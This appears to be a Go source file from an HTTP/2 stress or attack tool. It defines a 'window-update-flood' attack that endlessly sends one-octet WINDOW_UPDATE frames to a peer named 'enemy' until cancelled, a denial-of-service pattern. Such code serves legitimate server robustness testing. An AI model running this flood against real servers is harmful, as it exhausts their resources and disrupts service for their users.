package main

import (
	"context"
)

// windowUpdateFlood gives credit an octet at a time that nobody needs.
var windowUpdateFlood = &attack{
	name: "window-update-flood", what: "WINDOW_UPDATE of an octet without end",
	run: func(ctx context.Context, e *enemy) error {
		for ctx.Err() == nil {
			if err := e.alive(e.fr.WriteWindowUpdate(0, 1)); err != nil {
				return err
			}
		}
		return nil
	},
}
